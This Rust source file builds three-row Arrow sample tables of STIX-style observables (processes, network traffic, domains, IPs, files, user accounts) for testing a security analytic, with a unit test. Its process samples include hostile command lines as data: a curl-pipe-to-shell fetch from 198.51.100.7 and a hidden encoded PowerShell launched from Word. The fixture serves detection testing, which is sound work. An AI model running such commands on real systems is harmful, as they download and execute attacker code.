//! A few rows to try an analytic on, with the columns that variables usually have.

use std::sync::Arc;

use duckdb::arrow::{
    array::{ArrayRef, Int64Array, StringArray},
    datatypes::{Field, Schema},
    record_batch::RecordBatch,
};

/// Types that there are samples of.
pub const TYPES: &[&str] =
    &["process", "network-traffic", "domain-name", "ipv4-addr", "file", "user-account"];

/// One column.
enum Column {
    Text(&'static str, [Option<&'static str>; 3]),
    Int(&'static str, [Option<i64>; 3]),
}

/// Returns three rows of a type; none if there is no sample of it.
pub fn table(entity_type: &str) -> Option<RecordBatch> {
    use Column::{Int, Text};
    let own = match entity_type {
        "process" => vec![
            Text("name", [Some("powershell.exe"), Some("svchost.exe"), Some("bash")]),
            Int("pid", [Some(4242), Some(780), Some(31337)]),
            Text(
                "command_line",
                [
                    Some("powershell.exe -nop -w hidden -enc SQBFAFgA"),
                    Some("C:\\Windows\\System32\\svchost.exe -k netsvcs"),
                    Some("bash -c 'curl http://198.51.100.7/a | sh'"),
                ],
            ),
            Text("parent_ref.name", [Some("winword.exe"), Some("services.exe"), None]),
            Int("parent_ref.pid", [Some(4000), Some(600), None]),
            Text("binary_ref.name", [Some("powershell.exe"), Some("svchost.exe"), Some("bash")]),
            Text("creator_user_ref.user_id", [Some("S-1-5-21-1"), Some("S-1-5-18"), Some("1000")]),
        ],
        "network-traffic" => vec![
            Text("src_ref.value", [Some("192.0.2.10"), Some("192.0.2.11"), Some("192.0.2.12")]),
            Int("src_port", [Some(51000), Some(51001), Some(51002)]),
            Text("dst_ref.value", [Some("198.51.100.7"), Some("203.0.113.9"), Some("198.51.100.7")]),
            Int("dst_port", [Some(443), Some(53), Some(4444)]),
            Text("protocols", [Some("[\"tcp\"]"), Some("[\"udp\"]"), Some("[\"tcp\"]")]),
            Int("src_byte_count", [Some(1200), Some(64), None]),
            Int("dst_byte_count", [Some(52_000_000), Some(128), None]),
        ],
        "domain-name" => vec![Text(
            "value",
            [Some("example.com"), Some("xq7zk2vb9w1t.example"), Some("update.example.net")],
        )],
        "ipv4-addr" => vec![Text("value", [Some("192.0.2.10"), Some("198.51.100.7"), Some("203.0.113.9")])],
        "file" => vec![
            Text("name", [Some("a.exe"), Some("b.dll"), Some("c.txt")]),
            Text("hashes.MD5", [Some("d41d8cd98f00b204e9800998ecf8427e"), None, None]),
            Text("parent_directory_ref.path", [Some("C:\\Temp"), Some("C:\\Windows"), Some("/tmp")]),
        ],
        "user-account" => vec![
            Text("user_id", [Some("1000"), Some("0"), Some("S-1-5-18")]),
            Text("account_login", [Some("alice"), Some("root"), Some("SYSTEM")]),
        ],
        _ => return None,
    };
    let ids: Vec<String> =
        (1..=3).map(|n| format!("{entity_type}--00000000-0000-5000-8000-{n:012}")).collect();
    let mut fields = Vec::new();
    let mut arrays: Vec<ArrayRef> = Vec::new();
    let mut add = |name: &str, array: ArrayRef| {
        fields.push(Field::new(name, array.data_type().clone(), true));
        arrays.push(array);
    };
    for column in own {
        match column {
            Text(name, values) => add(name, Arc::new(StringArray::from(values.to_vec()))),
            Int(name, values) => add(name, Arc::new(Int64Array::from(values.to_vec()))),
        }
    }
    add("id", Arc::new(StringArray::from(ids)));
    let at = |n: u32| format!("2026-01-0{n}T08:00:00Z");
    add("first_observed", Arc::new(StringArray::from(vec![at(1), at(2), at(3)])));
    add("last_observed", Arc::new(StringArray::from(vec![at(1), at(2), at(4)])));
    add("type", Arc::new(StringArray::from(vec![entity_type; 3])));
    RecordBatch::try_new(Arc::new(Schema::new(fields)), arrays).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_type_has_its_sample() {
        for entity_type in TYPES {
            let table = table(entity_type).expect("a sample");
            assert!(table.column_by_name("id").is_some() && table.num_rows() == 3);
        }
        assert!(table("nothing").is_none());
    }
}
